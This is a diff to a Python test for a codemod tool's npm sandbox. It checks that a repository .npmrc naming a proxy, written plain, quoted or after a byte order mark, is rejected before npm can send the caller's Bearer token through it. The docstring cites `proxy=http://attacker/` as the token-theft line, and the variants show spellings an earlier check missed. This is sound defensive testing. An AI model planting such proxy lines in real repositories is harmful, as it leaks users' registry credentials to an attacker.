@@ -269,7 +269,11 @@ def test_an_old_sdk_the_tests_write_into_a_node_modules_below_the_root_is_never_
 @pytest.mark.slow
 @pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
 @pytest.mark.skipif(sandbox.probe() is not None, reason=f"bwrap cannot start here: {sandbox.probe()}")
+@pytest.mark.parametrize(
+    "line", ["proxy={url}", '"proxy"={url}', "\ufeffproxy={url}"], ids=["plain", "quoted", "bom"]
+)
 def test_a_proxy_the_repository_names_never_sees_the_callers_token(
+    line: str,
     npm_repo: Path,
     registry: str,
     run_codemod: Callable[..., object],
@@ -278,7 +282,8 @@ def test_a_proxy_the_repository_names_never_sees_the_callers_token(
 ) -> None:
     """One line in the repository's .npmrc, `proxy=http://attacker/`: the caller set no proxy, so npm sent
     every registry request of the installs, with the caller's `Authorization: Bearer` token, through it
-    (the run was green). The run now stops before npm runs, naming the line; the proxy sees nothing."""
+    (the run was green). The run now stops before npm runs, naming the line; the proxy sees nothing. Also
+    spelled as npm reads it and the first check did not (helper-39): quoted, after a byte order mark."""
     import http.server
     import threading
 
@@ -299,13 +304,14 @@ def test_a_proxy_the_repository_names_never_sees_the_callers_token(
     user = tmp_path / "user.npmrc"
     user.write_text(f"//{registry.removeprefix('http://').rstrip('/')}/:_authToken={token}\n")
     monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(user))
-    (npm_repo / ".npmrc").write_text(f"proxy=http://127.0.0.1:{server.server_address[1]}/\n")
+    (npm_repo / ".npmrc").write_text(line.format(url=f"http://127.0.0.1:{server.server_address[1]}/") + "\n")
     subprocess.run([*GIT, "add", "-A"], cwd=npm_repo, check=True)
     subprocess.run([*GIT, "commit", "-qm", "npmrc"], cwd=npm_repo, check=True)
     try:
         result = run_codemod(npm_repo, TASKS / "acme-sdk-1.1-plain.yml", packages=False)
     finally:
         server.shutdown()
+        server.server_close()
     m = result.manifest  # type: ignore[attr-defined]
     assert seen == []
     assert result.code != 0 and m["status"] != "succeeded", m["reason"]  # type: ignore[attr-defined]
